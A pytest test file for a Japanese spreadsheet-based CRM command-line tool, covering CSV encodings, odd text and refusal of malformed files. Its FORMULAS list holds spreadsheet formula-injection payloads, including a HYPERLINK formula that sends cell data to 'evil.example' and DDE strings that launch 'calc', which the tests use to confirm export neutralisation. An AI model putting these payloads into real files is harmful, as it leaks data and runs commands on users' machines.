"""CSVs as they arrive (cp932 from Excel, UTF-8 with BOM from web tools, formulas typed into cells, odd text) through
`xlcrm import` and `xlcrm export`: imported exactly, or refused naming file, line and column with the book
byte-identical; exports never hand a spreadsheet a formula."""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from corpus import hostile
from xlcrm.book import open_book
from xlcrm.cli import main
from xlcrm.csvio import read_csv

HEAD = "顧客ID,区分,氏名,電話番号,郵便番号,メール,備考\r\n"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"詳細")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _csv(rows, header=HEAD) -> str:
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    return header + buf.getvalue()


def _book(tmp_path):
    return hostile.baseline(tmp_path / "CRM.xlsx")


def _run(capsys, *argv):
    code = main(["--lang", "en", *argv])
    out, err = capsys.readouterr()
    assert "Traceback" not in err
    for s in hostile.SECRETS | {"秘匿五郎", "秘匿六子", "そのうち"}:
        assert s not in err, f"customer data in the message: {s}"
    return code, out, err


def test_cp932_and_bom_csvs_import_exactly(tmp_path, capsys):
    book = _book(tmp_path)
    cust = tmp_path / "顧客.csv"
    cust.write_bytes(_csv([["C0005", "顧客", "秘匿 五郎", "09012345678", "0600001", "goro@example.jp", "髙﨑・①～"]])
                     .encode("cp932"))
    orders = tmp_path / "注文.csv"
    orders.write_bytes(("\ufeff注文ID,顧客ID,注文日,金額\r\nO0100,C0005,令和6年4月1日,\"¥12,800\"\r\n"
                        "O0101,C0005,45383,△500\r\n").encode("utf-8"))
    code, out, err = _run(capsys, "import", str(cust), str(orders), "--into", str(book))
    assert code == 0, err
    with open_book(book) as b:
        c = b.read("customers").set_index("customer_id")
        o = b.read("orders").set_index("order_id")
    assert c.loc["C0005", "name"] == "秘匿 五郎" and c.loc["C0005", "notes"] == "髙﨑・①～"
    assert c.loc["C0005", "phone"] == "09012345678" and c.loc["C0005", "postcode"] == "0600001"  # zeros kept
    assert o.loc["O0100", "amount"] == 12800.0 and str(o.loc["O0101", "order_date"].date()) == "2024-04-01"
    assert o.loc["O0101", "amount"] == -500.0


def test_formulas_in_a_csv_stay_text_in_the_book_and_are_neutralised_on_export(tmp_path, capsys):
    book = _book(tmp_path)
    cust = tmp_path / "c.csv"
    rows = [[f"C{10 + i:04d}", "顧客", f"秘匿 {i}", "", "", "", f] for i, f in enumerate(FORMULAS)]
    cust.write_text("\ufeff" + _csv(rows), encoding="utf-8", newline="")
    code, _, err = _run(capsys, "import", str(cust), "--into", str(book))
    assert code == 0, err
    ws = openpyxl.load_workbook(book)["顧客"]
    notes = {ws.cell(r, 1).value: ws.cell(r, 11) for r in range(2, ws.max_row + 1)}
    assert all(notes[f"C{10 + i:04d}"].data_type == "s" for i in range(len(FORMULAS)))
    with open_book(book) as b:
        raw = b.read_raw("顧客")
    # as typed, but trimmed like every text cell (schema.parse_text): "\t=1+1" is stored as the text "=1+1"
    assert raw["備考"].tolist()[-len(FORMULAS):] == [f.strip() for f in FORMULAS]
    out = tmp_path / "export.csv"
    code, _, err = _run(capsys, "export", str(book), "--table", "顧客", "--out", str(out), "--encoding", "cp932")
    assert code == 0, err
    cells = [r[10] for r in csv.reader(io.StringIO(out.read_bytes().decode("cp932"), newline=""))][-len(FORMULAS):]
    assert all(c.startswith("'") for c in cells), cells  # no cell a spreadsheet would run
    # and the export reads back to what was typed
    assert read_csv(out)["備考"].tolist()[-len(FORMULAS):] == [f.strip() for f in FORMULAS]


def test_odd_text_round_trips_through_import_book_and_export(tmp_path, capsys):
    book = _book(tmp_path)
    cust = tmp_path / "c.csv"
    odd = [hostile.LONG, "縦タブ\x0bベル\x07", "秘匿 𠮷野家😀👨‍👩‍👧", "改行\r\nあり"]
    cust.write_text(_csv([[f"C{20 + i:04d}", "顧客", "秘匿 六子", "", "", "", v] for i, v in enumerate(odd)]),
                    encoding="utf-8", newline="")
    code, _, err = _run(capsys, "import", str(cust), "--into", str(book))
    assert code == 0, err
    with open_book(book) as b:
        got = b.read_raw("顧客")["備考"].tolist()[-len(odd):]
    assert got[:3] == odd[:3] and got[3] in ("改行\r\nあり", "改行\nあり")
    out = tmp_path / "e.csv"
    code, _, err = _run(capsys, "export", str(book), "--table", "顧客", "--out", str(out), "--encoding", "cp932",
                        "--strict")
    assert code == 2  # cp932 cannot hold 𠮷 or emoji: named by sheet, row and column, nothing written
    assert "sheet '顧客' row 8 column '備考' (K8)" in err and not out.exists()
    code, stdout, err = _run(capsys, "export", str(book), "--table", "顧客", "--out", str(out), "--encoding", "cp932")
    assert code == 0, err   # without --strict: the nearest cp932 character, each substitution named by its cell
    assert "𠮷 → 吉: 顧客!K8" in stdout and "😀 → 〓: 顧客!K8" in stdout
    assert read_csv(out)["備考"].tolist()[-2] == "秘匿 吉野家〓〓〓〓"   # the family's joiners are dropped
    code, _, err = _run(capsys, "export", str(book), "--table", "顧客", "--out", str(out))
    assert code == 0 and hostile.LONG in out.read_text(encoding="utf-8-sig")


@pytest.mark.parametrize("name,content,where", [
    ("bad_date.csv", _csv([["C0030", "顧客", "秘匿五郎", "", "", "", ""]]).replace("顧客ID", "顧客ID,生年月日")
     .replace("C0030,", "C0030,そのうち,"), ("bad_date.csv", 2, "生年月日")),
    ("dup.csv", _csv([["C0031", "顧客", "秘匿五郎", "", "", "", ""], ["C0031", "顧客", "秘匿六子", "", "", "", ""]]),
     ("dup.csv", 3, "顧客ID")),
    ("orders.csv", "注文ID,顧客ID,注文日,金額\r\nO1,C9999,2024-04-01,100\r\n", ("orders.csv", 2, "顧客ID")),
    ("amount.csv", "注文ID,顧客ID,注文日,金額\r\nO1,C0001,2024-04-01,秘匿五郎\r\n", ("amount.csv", 2, "金額")),
])
def test_bad_csv_is_refused_naming_the_cell_and_the_book_is_untouched(tmp_path, capsys, name, content, where):
    book = _book(tmp_path)
    before = book.read_bytes()
    p = tmp_path / name
    p.write_text(content, encoding="utf-8", newline="")
    code, _, err = _run(capsys, "import", str(p), "--into", str(book))
    assert code == 2
    sheet, row, column = where
    assert f"sheet '{sheet}' row {row} column '{column}'" in err, err
    assert book.read_bytes() == before
    assert sorted(x.name for x in tmp_path.iterdir() if x.suffix != ".csv") == [book.name]


@pytest.mark.parametrize("content", [
    "顧客ID,氏名\r\nC1,秘匿五郎\r\n".encode("utf-16"),      # Excel's "Unicode text"
    b"PK\x03\x04" + b"\0" * 100,                           # a workbook renamed .csv
    "顧客ID,氏名\r\nC1,秘匿五郎\r\n".encode("euc_jp"),      # EUC-JP: decodes as cp932 kana, matches no table
    b"",
])
def test_files_that_are_not_our_csv_are_refused(tmp_path, capsys, content):
    book = _book(tmp_path)
    before = book.read_bytes()
    p = tmp_path / "x.csv"
    p.write_bytes(content)
    code, _, err = _run(capsys, "import", str(p), "--into", str(book))
    assert code == 2, err
    assert "x.csv" in err
    assert book.read_bytes() == before
